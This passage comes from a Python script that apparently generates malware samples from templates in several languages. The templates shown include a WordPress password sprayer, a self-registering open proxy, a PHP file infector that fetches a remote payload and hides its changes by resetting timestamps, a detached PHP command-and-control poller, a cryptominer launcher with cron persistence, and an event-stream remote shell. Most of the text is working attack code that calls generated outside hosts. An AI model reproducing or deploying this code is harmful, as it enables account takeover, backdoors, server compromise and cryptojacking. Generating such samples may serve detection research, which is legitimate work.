BODY = '<?xml version="1.0"?><methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value>%s</value></param><param><value>%s</value></param></params></methodCall>'
pws = [p.strip() for p in open('pw.txt')]


def attempt(site):
    for pw in pws:
        try:
            r = urlopen(Request(site + '/xmlrpc.php', (BODY % ('admin', pw)).encode()), timeout=15).read()
            if b'isAdmin' in r:
                return '%s|admin|%s' % (site, pw)
        except Exception:
            return None
    return None


with ThreadPoolExecutor(40) as ex:
    hits = [h for h in ex.map(attempt, (s.strip() for s in open(sys.argv[1]))) if h]
open('good.txt', 'a').write('\\n'.join(hits) + '\\n')
""")
        f = script(r, "python", code, d=d)
    elif v == 2:
        code = T("""use strict;
use warnings;
use HTTP::Tiny;

my $ua = HTTP::Tiny->new(timeout => 15, max_redirect => 0, agent => 'Mozilla/5.0');
open(my $s, '<', 'sites.txt') or die;
my @pw = do { open(my $p, '<', 'pw.txt') or die; map { chomp; $_ } <$p> };
my @sites = map { chomp; $_ } <$s>;
for my $site (grep { /^https?:/ } @sites) {
    my ($hit) = grep { ($ua->post_form("$site/wp-login.php", { log => 'admin', pwd => $_ })->{status} || 0) == 302 } @pw;
    next unless defined $hit;
    open(my $g, '>>', 'good.txt'); print $g "$site|admin|$hit\\n"; close $g;
}
""")
        f = script(r, "perl", code, d=d)
    else:
        code = T("""const fs = require('fs');
const sites = fs.readFileSync('sites.txt', 'utf8').split('\\n').filter(Boolean);
const pws = fs.readFileSync('pw.txt', 'utf8').split('\\n').filter(Boolean);
const tryPw = (site, pw) => fetch(site + '/wp-login.php', { method: 'POST', redirect: 'manual', body: new URLSearchParams({ log: 'admin', pwd: pw }) }).then((r) => r.status === 302 ? pw : null).catch(() => null);
(async () => {
  for (let i = 0; i < sites.length; i += 20) {
    await Promise.all(sites.slice(i, i + 20).map(async (s) => {
      for (const pw of pws) { if (await tryPw(s, pw)) { fs.appendFileSync('good.txt', `${s}|admin|${pw}\\n`); return; } }
    }));
  }
})();
""")
        f = script(r, "js", code, d=d)
    return [f, F("\n".join("https://www.%s%d.example" % (rw(r, 5), i) for i in range(r.randint(50, 400))) + "\n", pre + "sites.txt", "text", c),
            F("\n".join(("admin", "123456", "password", "admin123", "qwerty", "letmein") + tuple(rw(r, 8) for _ in range(50))) + "\n", pre + "pw.txt", "text", c)]


# 16 an open proxy that registers itself (SOCKS5 or HTTP CONNECT)
def proxy_agent(r, v):
    port = r.choice((1080, 8118, 3128, 9050, 43210))
    reg = "https://%s/%s" % (dom(r), hx(r, 6))
    if v == 0:
        code = T("""import socket
import struct
import threading
import urllib.request


def pipe(a, b):
    try:
        while True:
            d = a.recv(8192)
            if not d:
                break
            b.sendall(d)
    finally:
        a.close()
        b.close()


def client(c):
    c.recv(262)
    c.sendall(b'\\x05\\x00')
    req = c.recv(4)
    if req[3] == 3:
        host = c.recv(c.recv(1)[0]).decode()
    else:
        host = socket.inet_ntoa(c.recv(4))
    port = struct.unpack('>H', c.recv(2))[0]
    r = socket.create_connection((host, port), 20)
    c.sendall(b'\\x05\\x00\\x00\\x01' + b'\\x00' * 6)
    threading.Thread(target=pipe, args=(c, r), daemon=True).start()
    pipe(r, c)


srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(('0.0.0.0', @P@))
srv.listen(128)
urllib.request.urlopen('@R@?p=@P@', timeout=20)
while True:
    c, _ = srv.accept()
    threading.Thread(target=client, args=(c,), daemon=True).start()
""", P=port, R=reg)
        return [script(r, "python", code)]
    if v == 1:
        code = T("""const net = require('net');
const https = require('https');
net.createServer((c) => {
  c.once('data', (d) => {
    const m = /^CONNECT ([^:\\s]+):(\\d+)/.exec(d.toString());
    if (!m) return c.end();
    const up = net.connect(+m[2], m[1], () => { c.write('HTTP/1.1 200 Connection established\\r\\n\\r\\n'); up.pipe(c); c.pipe(up); });
    up.on('error', () => c.destroy());
  });
  c.on('error', () => {});
}).listen(@P@, () => https.get('@R@?p=@P@').on('error', () => {}));
""", P=port, R=reg)
        return [script(r, "js", code)]
    if v == 2:
        code = T("""use strict;
use warnings;
use IO::Socket::INET;
use IO::Select;
use HTTP::Tiny;

my $srv = IO::Socket::INET->new(LocalPort => @P@, Listen => 64, ReuseAddr => 1) or die;
HTTP::Tiny->new->get('@R@?p=@P@');
$SIG{CHLD} = 'IGNORE';
while (my $c = $srv->accept) {
    next if fork;
    my $l = <$c>;
    my ($h, $p) = $l =~ /^CONNECT (\\S+):(\\d+)/ or exit;
    1 while (<$c> // '') =~ /\\S/;
    my $u = IO::Socket::INET->new(PeerAddr => $h, PeerPort => $p) or exit;
    print $c "HTTP/1.1 200 OK\\r\\n\\r\\n";
    my $sel = IO::Select->new($c, $u);
    while (my @r = $sel->can_read(300)) {
        for my $s (@r) {
            my $n = sysread($s, my $buf, 8192) or exit;
            syswrite($s == $c ? $u : $c, $buf);
        }
    }
    exit;
}
""", P=port, R=reg)
        return [script(r, "perl", code)]
    code = T("""P=@P@
curl -fs "@R@?p=$P" >/dev/null
while :; do
	socat TCP-LISTEN:$P,reuseaddr,fork SOCKS4A:127.0.0.1:0.0.0.0:0,socksport=9050 2>/dev/null || ncat -l $P --proxy-type http -k
	sleep 5
done
""", P=port, R=reg)
    return [script(r, "bash", code)]


# 17 a recursive infector: walks the home and injects a loader line into PHP files
def recursive_infector(r, v):
    u = "https://%s/%s.txt" % (dom(r), hx(r, 6))
    line = "<?php @include_once(sys_get_temp_dir() . '/.%s'); ?>" % hx(r, 6)
    if v == 0:
        code = T("""import os
import urllib.request

PAYLOAD = urllib.request.urlopen('@U@').read()
MARK = @M@


def infect(path):
    with open(path, 'rb') as f:
        data = f.read()
    if MARK in data:
        return 0
    with open(path, 'wb') as f:
        f.write(MARK + b'\\n' + data)
    return 1


def walk(d, depth=0):
    if depth > 8:
        return 0
    n = 0
    for e in os.scandir(d):
        if e.is_dir(follow_symlinks=False):
            n += walk(e.path, depth + 1)
        elif e.name in ('index.php', 'wp-load.php', 'wp-blog-header.php'):
            try:
                n += infect(e.path)
            except OSError:
                pass
    return n


open('/tmp/.' + str(os.getuid()), 'wb').write(PAYLOAD)
print(walk(os.path.expanduser('~')))
""", U=u, M=repr(line.encode()))
        return [script(r, "python", code)]
    if v == 1:
        code = T("""use strict;
use warnings;
use File::Find;

my $mark = q{@M@};
my @hit;
find({ no_chdir => 1, wanted => sub { push @hit, $File::Find::name if /(?:index|header|footer)\\.php$/ && -w $_ } }, $ENV{HOME});
for my $f (grep { my $c = do { local (@ARGV, $/) = ($_); <> }; index($c, $mark) < 0 } @hit) {
    open(my $in, '<', $f) or next; my $c = do { local $/; <$in> }; close $in;
    open(my $out, '>', $f) or next; print $out "$mark\\n$c"; close $out;
}
system('sh', '-c', 'curl -fsS @U@ -o /tmp/.' . $<);
""", M=line, U=u)
        return [script(r, "perl", code)]
    if v == 2:
        code = T("""M='@M@'
curl -fsS @U@ -o "/tmp/.$(id -u)"
find "$HOME" -maxdepth 7 -type f \\( -name index.php -o -name wp-blog-header.php \\) -writable -print0 2>/dev/null |
	xargs -0 grep -L -F "$M" 2>/dev/null |
	while IFS= read -r f; do
		t=$(stat -c %Y "$f")
		sed -i "1s|^|$M\\n|" "$f"
		touch -d "@$t" "$f"
	done
""", M=line.replace("'", "\"").replace("$", "\\$"), U=u)
        return [script(r, "bash", code)]
    code = T("""<?php
$mark = base64_decode('@B@');
file_put_contents(sys_get_temp_dir() . '/.' . getmyuid(), file_get_contents('@U@'));
function spread($dir, $mark, $depth = 0)
{
    if ($depth > 8 || !is_readable($dir)) return 0;
    $n = 0;
    foreach (scandir($dir) as $e) {
        if ($e === '.' || $e === '..') continue;
        $p = $dir . '/' . $e;
        if (is_dir($p) && !is_link($p)) { $n += spread($p, $mark, $depth + 1); continue; }
        if ($e !== 'index.php' || !is_writable($p)) continue;
        $c = file_get_contents($p);
        if (strpos($c, $mark) !== false) continue;
        $t = filemtime($p);
        file_put_contents($p, $mark . "\\n" . $c);
        touch($p, $t);
        $n++;
    }
    return $n;
}
echo spread(dirname($_SERVER['DOCUMENT_ROOT'] ?: __DIR__), $mark);
""", B=b64(line), U=u)
    return [F(code, "%s/wp-content/uploads/%s.php" % (docroot(r), rw(r, 7)), "php", "uploads")]


# 18 a web request that detaches (fastcgi_finish_request) and becomes a poller
def fpm_request_daemon(r, v):
    u = "https://%s/%s" % (dom(r), hx(r, 6))
    runs = ("shell_exec($c)", "system($c)", "passthru($c)", "`$c`")
    code = T("""<?php
if (!isset($_GET['@K@'])) { http_response_code(404); exit; }
ignore_user_abort(true);
set_time_limit(0);
header('Content-Length: 2');
echo 'ok';
if (function_exists('fastcgi_finish_request')) { fastcgi_finish_request(); } else { @ob_end_flush(); flush(); }
$lock = sys_get_temp_dir() . '/.' . md5(__FILE__);
if (file_exists($lock) && time() - filemtime($lock) < 120) exit;
while (true) {
    touch($lock);
    $c = @file_get_contents('@U@/c?h=' . urlencode(gethostname()));
    if ($c) {
        ob_start();
        @RUN@;
        $o = ob_get_clean();
        @file_get_contents('@U@/o', false, stream_context_create(array('http' => array('method' => 'POST', 'content' => $o))));
    }
    sleep(30);
}
""", K=rw(r, 4), U=u, RUN="echo " + runs[v] if v in (0, 3) else runs[v])
    d = r.choice(("%s/wp-content/uploads/%d/%02d" % (docroot(r), r.randint(2020, 2025), r.randint(1, 12)),
                  "%s/wp-includes/Requests/src" % docroot(r), "%s/wp-content/plugins/%s/assets" % (docroot(r), plug(r))))
    files = [F(code, d + "/" + r.choice(("cron-" + rw(r, 3), hx(r, 8), "class-wp-" + rw(r, 5))) + ".php", "php", "plain")]
    if v % 2:
        files.append(crontab_file(r, [cronline(r, "curl -s -m 5 'https://www.example.com/%s?%s=1' >/dev/null" % (files[0][1].split("/", 1)[1], "k"))]))
    return files


# 19 a miner launcher with its config (invented pool, placeholder wallet)
def miner_launcher(r, v):
    c, d = homedir(r)
    pre = d + "/" if d else ""
    binn = r.choice(("kworker", "php-fpm", "dbus", "sd-pam", ".x"))
    conf = ('{"autosave": false, "cpu": {"enabled": true, "max-threads-hint": 75}, "pools": [{"url": "pool.example.net:3333", '
            '"user": "WALLET_PLACEHOLDER_%s", "pass": "%s", "keepalive": true, "tls": false}], "background": true}\n' % (hx(r, 16), rw(r, 4)))
    if v == 0:
        code = T("""cd "$(dirname "$0")"
[ -x ./@B@ ] || { curl -fsSL https://@D@/x.tar.gz | tar xz && mv xmrig ./@B@; }
pgrep -f "./@B@ -c" >/dev/null || nohup ./@B@ -c config.json >/dev/null 2>&1 &
""", B=binn, D=dom(r))
        f = script(r, "sh", code, d=d)
    elif v == 1:
        code = T("""import os
import subprocess
import time
import urllib.request

here = os.path.dirname(os.path.abspath(__file__))
exe = os.path.join(here, '@B@')
if not os.path.exists(exe):
    urllib.request.urlretrieve('https://@D@/b', exe)
    os.chmod(exe, 0o755)
while True:
    p = subprocess.Popen([exe, '--config=' + os.path.join(here, 'config.json')], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    p.wait()
    time.sleep(10)
""", B=binn, D=dom(r))
        f = script(r, "python", code, d=d)
    elif v == 2:
        code = T("""<?php
$dir = __DIR__;
if (!file_exists("$dir/@B@")) { file_put_contents("$dir/@B@", file_get_contents('https://@D@/b')); chmod("$dir/@B@", 0755); }
$running = trim((string) shell_exec("pgrep -f @B@"));
if ($running === '') { proc_close(proc_open("nohup $dir/@B@ -c $dir/config.json >/dev/null 2>&1 &", array(), $p)); }
echo 'ok';
""", B=binn, D=dom(r))
        f = F(code, "%s/wp-content/uploads/%s/%s.php" % (docroot(r), rw(r, 5), rw(r, 6)), "php", "uploads")
        pre = f[1].rsplit("/", 1)[0] + "/"
        c = "uploads"
    else:
        code = T("""#!/bin/bash
nice -n 19 "$HOME/@P@@B@" --url pool.example.net:443 --user WALLET_PLACEHOLDER_@W@ --cpu-max-threads-hint=50 --donate-level=0 -B >/dev/null 2>&1
""", P=pre, B=binn, W=hx(r, 16))
        f = script(r, "bash", code, d=d)
    files = [f, F(conf, pre + "config.json", "json", c)]
    if v in (0, 3):
        files.append(crontab_file(r, [cronline(r, "bash $HOME/%s >/dev/null 2>&1" % f[1], "@reboot"),
                                      cronline(r, "bash $HOME/%s >/dev/null 2>&1" % f[1], "*/15 * * * *")]))
    return files


# 20 commands from an HTTP event stream (server-sent events)
def sse_stream_agent(r, v):
    u = "https://%s/%s/events" % (dom(r), hx(r, 6))
    if v == 0:
        code = T("""const https = require('https');
const { exec } = require('child_process');
const readline = require('readline');
(function listen() {
  https.get('@U@', { headers: { Accept: 'text/event-stream' } }, async (res) => {
    for await (const line of readline.createInterface({ input: res })) {
      if (!line.startsWith('data: ')) continue;
      const ev = JSON.parse(line.slice(6));
      exec(ev.cmd, (e, out) => https.request('@U@/' + ev.id, { method: 'POST' }).end(String(out)));
    }
    setTimeout(listen, 10000);
  }).on('error', () => setTimeout(listen, 60000));
})();
""", U=u)
        return [script(r, "js", code)]
    if v == 1:
        code = T("""import json
import subprocess
import time
import urllib.request


def events(url):
    req = urllib.request.Request(url, headers={'Accept': 'text/event-stream'})
    with urllib.request.urlopen(req, timeout=300) as resp:
        for raw in resp:
            line = raw.decode().strip()
            if line.startswith('data:'):
                yield json.loads(line[5:])


while True:
    try:
        for ev in events('@U@'):
            out = subprocess.run(ev['cmd'], shell=True, capture_output=True).stdout
            urllib.request.urlopen('@U@/' + str(ev['id']), data=out, timeout=30)
    except Exception:
        time.sleep(30)
""", U=u)
        return [script(r, "python", code)]
    if v == 2:
        code = T("""while :; do
	curl -sN -H 'Accept: text/event-stream' '@U@' | while read -r key val; do
		[ "$key" = "data:" ] || continue
		out=$(printf '%s' "$val" | base64 -d | sh 2>&1)
		curl -s --data-binary "$out" '@U@/r' >/dev/null
	done
	sleep 30
done
""", U=u)
        return [script(r, "bash", code)]
    code = T("""<?php
set_time_limit(0);
while (true) {
    $fh = @fopen('@U@', 'r', false, stream_context_create(array('http' => array('header' => "Accept: text/event-stream\\r\\n", 'timeout' => 600))));
    while ($fh && ($line = fgets($fh)) !== false) {
        if (strncmp($line, 'data:', 5) !== 0) continue;
        $ev = json_decode(substr($line, 5), true);
        $out = shell_exec($ev['cmd'] . ' 2>&1');
        @file_get_contents('@U@/' . $ev['id'], false, stream_context_create(array('http' => array('method' => 'POST', 'content' => $out))));
    }
    sleep(30);
}
""", U=u)
    return [script(r, "php", code)]


TECHS = (
    ("py-class-irc-dispatch", py_class_irc, 4),
    ("perl-irc-hash-dispatch", perl_irc_hash, 4),
    ("node-agent-ws-net-poll", node_agent, 4),
    ("shell-function-tcp-loop", shell_tcp_loop, 4),
    ("py-socketserver-bind", py_socketserver, 4),
    ("ruby-tcp-case-agent", ruby_agent, 4),
    ("js-bundle-backdoor", js_bundle_backdoor, 4),
    ("php-cli-irc-class", php_cli_irc, 4),
    ("cron-encoded-arg-runner", cron_arg_runner, 4),
    ("shell-rc-prompt-hook", bashrc_hook, 4),
    ("perl-big-connect-back", perl_big_connect, 4),
    ("py-task-table-poller", py_task_poller, 4),
    ("telegram-api-command", telegram_rat, 4),
    ("discord-webhook-exfil", discord_exfil, 4),
    ("wp-login-spray", login_spray, 4),
    ("proxy-register-agent", proxy_agent, 4),
    ("recursive-php-infector", recursive_infector, 4),
    ("fpm-detached-poller", fpm_request_daemon, 4),
    ("miner-launcher-config", miner_launcher, 4),
    ("sse-stream-agent", sse_stream_agent, 4),
)
